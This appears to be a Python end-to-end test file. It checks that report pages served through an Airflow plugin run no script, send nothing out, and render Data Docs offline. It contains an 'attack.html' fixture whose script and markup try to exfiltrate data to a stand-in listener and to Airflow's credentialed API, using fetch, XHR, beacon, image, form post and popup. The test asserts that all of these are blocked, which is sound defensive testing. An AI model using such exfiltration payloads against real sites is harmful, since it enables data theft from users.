"""Report pages cannot call out, and Data Docs render offline: headless Chromium, logged in to an Airflow api-server.

Over a run whose reports are real Data Docs (:func:`~tests.orchestration.report_runs.data_docs_batch`)
plus ``attack.html``, a report file that tries every way out the brief names. Its script (fetch and
XHR to a listener on another loopback host and to Airflow's API, absolute and relative, a beacon,
an image, a form posted to the listener, ``window.open``) does not run; run anyway, through the
WebDriver, as if it had, every request of it is refused all the same. What needs no script (an
image, a style sheet, a frame, a form's button, a ``target=_blank`` link, clicked as a reader would)
reaches nothing either. The browser resolves no host but loopback, so a page that still named a CDN
would log a failed load. A second api-server serves below ``/airflow`` (``[api] base_url`` with a
path): the run's report tab, the batches page and their links stay below it.
"""

from __future__ import annotations

import time

import pytest

from .browser import api_server, chromium, open_report_tab, sign_in
from .report_runs import DOCS_INDEX, SCRIPT_BLOCKED, STYLED, data_docs_batch, listening, register_run, sync_dags

# On the worker of the test run's server, whose browser tests (review, sandbox, viewer) already start the session's
# api-server: one api-server start less.
pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.xdist_group("vllm_server")]
DAG_ID, RUN_ID, BATCH_ID = "rollout_batch", "manual__report-offline", "report-offline-batch"
ATTACK_SCRIPT = """
const outcome = (promise) => promise.then((r) => "status " + r.status, (e) => e.name);
const xhr = (url) => {  // synchronous: where scripting is off, no event handler of a request would run
  const request = new XMLHttpRequest();
  try { request.open("GET", url, false); request.send(); } catch (e) { return e.name; }
  return "status " + request.status;
};
const seen = {origin: self.origin};
navigator.sendBeacon("LISTENER/beacon", "x");  // queued (true), then refused: only the listener can tell
try { seen.open = String(window.open("LISTENER/open")); } catch (e) { seen.open = e.name; }
new Image().src = "LISTENER/image";
Promise.all([
  outcome(fetch("LISTENER/fetch", {method: "POST", body: "x"})),
  outcome(fetch("API/api/v2/dags", {credentials: "include"})),
  outcome(fetch("/api/v2/dags")),
  xhr("LISTENER/xhr"),
  xhr("API/api/v2/dags"),
]).then(([fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi]) => {
  window.SEEN = Object.assign(seen, {fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi});
});
"""
ATTACK = f"""<!doctype html><title>attack</title>
<link rel="stylesheet" href="LISTENER/style"><img src="LISTENER/img"><iframe src="LISTENER/frame"></iframe>
<form id="form" method="post" action="LISTENER/form"><input name="stolen" value="1"><button id="post">post</button>
</form><a id="popup" href="LISTENER/popup" target="_blank">open</a>
<script>{ATTACK_SCRIPT}</script>
"""
# What the attack script saw when the WebDriver ran it: every request refused, no window opened.
BLOCKED = {
    "open": "null",
    "fetchOut": "TypeError",
    "fetchApi": "TypeError",
    "fetchRelative": "TypeError",
    "xhrOut": "NetworkError",
    "xhrApi": "NetworkError",
}


@pytest.fixture(scope="module")
def listener():
    with listening() as server:
        yield server


@pytest.fixture(scope="module")
def offline_run(airflow_db, api_server_url, listener, tmp_path_factory) -> str:
    """The run's ``reports/`` address on the session's api-server."""
    root = tmp_path_factory.mktemp("report-offline")
    reports = data_docs_batch(root, BATCH_ID)
    (reports / "attack.html").write_text(ATTACK.replace("LISTENER", listener.url).replace("API", api_server_url))
    sync_dags()
    register_run(DAG_ID, RUN_ID, {"batch_id": BATCH_ID, "storage_url": f"file://{root}", "storage_conn_id": None})
    return f"{api_server_url}/rollout-ledger/dags/{DAG_ID}/runs/{RUN_ID}/reports/"


def problems(browser) -> list[str]:
    """What the console logged at SEVERE since the last call but scripts the sandbox blocked: failed loads, refusals."""
    logged = [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
    return [message for message in logged if SCRIPT_BLOCKED not in message]


def test_a_report_runs_no_script_and_neither_it_nor_a_reader_can_send_anything_out(
    offline_run, api_server_url, listener
):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    browser = chromium()
    wait = WebDriverWait(browser, 60)
    try:
        sign_in(browser, api_server_url)
        page = offline_run + "attack.html"
        browser.get(page)
        wait.until(lambda b: b.execute_script("return document.readyState") == "complete")
        assert browser.execute_script("return typeof window.SEEN") == "undefined"  # its script did not run
        browser.find_element(By.ID, "post").click()  # what a reader can do without a script
        browser.find_element(By.ID, "popup").click()
        browser.execute_script(ATTACK_SCRIPT.replace("LISTENER", listener.url).replace("API", api_server_url))
        seen = wait.until(lambda b: b.execute_script("return window.SEEN"))  # as if it had run
        assert seen == {**BLOCKED, "origin": api_server_url}  # Airflow's origin, and still nothing reaches it
        browser.execute_script("document.getElementById('form').submit()")
        browser.execute_script("document.getElementById('form').requestSubmit()")
        time.sleep(2)
        assert browser.current_url == page and len(browser.window_handles) == 1  # no post, no window
        assert browser.execute_script("return window.SEEN") == seen  # still the same document
        logged = " ".join(problems(browser))
        for refusal in ("Content Security Policy", "allow-forms", "allow-popups"):
            assert refusal in logged, refusal  # blocked, not failed
    finally:
        browser.quit()
    time.sleep(1)
    assert listener.heard == []  # no fetch, XHR, beacon, image, style sheet, frame, form or window left the page


def test_data_docs_render_without_scripts_with_their_vendored_styles_and_load_nothing_from_elsewhere(
    offline_run, api_server_url
):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    browser = chromium()
    wait = WebDriverWait(browser, 60)
    try:
        sign_in(browser, api_server_url)
        problems(browser)
        browser.get(offline_run)
        browser.find_element(By.LINK_TEXT, "lineage Data Docs").click()
        wait.until(lambda b: b.current_url == offline_run + DOCS_INDEX)
        results = browser.find_elements(By.CSS_SELECTOR, "table.ge-index-page-validation-results-table a")
        suites = browser.find_elements(By.CSS_SELECTOR, "table.ge-index-page-expectation_suites-table a")
        assert results and all(link.is_displayed() for link in results)  # the index's lists, drawn without scripts
        assert suites and all(link.is_displayed() for link in suites)
        assert {link.get_attribute("href").split("/run-000/validations/")[-1].split("/")[1] for link in results} >= {
            "calls"
        }
        browser.back()
        wait.until(lambda b: b.find_elements(By.LINK_TEXT, "calls")).pop().click()  # the overview's link to results
        wait.until(lambda b: "/lineage/run-000/validations/lineage/calls/run-000/" in b.current_url)
        wait.until(lambda b: b.execute_script("return document.fonts.status") == "loaded")
        styled = browser.execute_script(STYLED)
        assert styled["jquery"] == "undefined"  # GX's scripts did not run
        assert "unique_calls [warn]" in styled["text"] and "c2" in styled["text"]  # the result, its offending value
        assert styled["font"].startswith("-apple-system")  # Bootstrap's reboot, not the browser's serif
        assert (styled["navbar"], styled["container"]) == ("flex", "48px")  # Bootstrap's .navbar; GX's pl-5
        assert "Font Awesome 6 Free" in styled["iconFont"] and styled["iconLoaded"]  # the failed-check icon
        assert styled["logo"] > 0  # GX's logo, an image of the site
        origin = api_server_url + "/"
        assert len(styled["loaded"]) >= 5 and all(name.startswith(origin) for name in styled["loaded"])
        assert any("/static/vendor/bootstrap/bootstrap.min.css" in name for name in styled["loaded"])
        assert problems(browser) == []  # no failed load and no refused request on any page: only scripts blocked
    finally:
        browser.quit()


@pytest.fixture(scope="module")
def airflow_below_a_path(airflow_db, offline_run, tmp_path_factory):
    """A second api-server of this Airflow whose ``[api] base_url`` is ``http://127.0.0.1:<port>/airflow/``."""
    with api_server(tmp_path_factory.mktemp("api-server-path") / "api-server.log", base_path="/airflow") as url:
        yield url


def test_reports_and_the_batches_page_stay_below_the_api_servers_base_path(airflow_below_a_path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    url = airflow_below_a_path
    reports = f"{url}/rollout-ledger/dags/{DAG_ID}/runs/{RUN_ID}/reports/"
    browser = chromium()
    wait = WebDriverWait(browser, 60)
    try:
        sign_in(browser, url)
        assert open_report_tab(browser, wait, url, DAG_ID, RUN_ID) == reports
        wait.until(lambda b: b.find_elements(By.PARTIAL_LINK_TEXT, "Data Docs")).pop().click()
        wait.until(lambda b: b.execute_script("return location.pathname").endswith(DOCS_INDEX))
        assert browser.execute_script("return location.pathname").startswith("/airflow/rollout-ledger/")
        logo = "return document.querySelector('img[src$=\"logo-long.png\"]').naturalWidth"
        wait.until(lambda b: b.execute_script(logo) > 0)  # an image below the page, read below /airflow
        browser.switch_to.default_content()

        browser.get(f"{url}/plugin/rollout-batches")
        frame = wait.until(lambda b: b.find_elements(By.TAG_NAME, "iframe"))[0]
        assert frame.get_attribute("src") == f"{url}/rollout-ledger/batches"
        browser.switch_to.frame(frame)
        link = wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, f"a[href*='{RUN_ID}']"))[0]
        assert link.get_attribute("href") == reports  # the base href: below /airflow
        link.click()
        wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))
        assert browser.execute_script("return location.pathname").startswith("/airflow/rollout-ledger/dags/")
    finally:
        browser.quit()
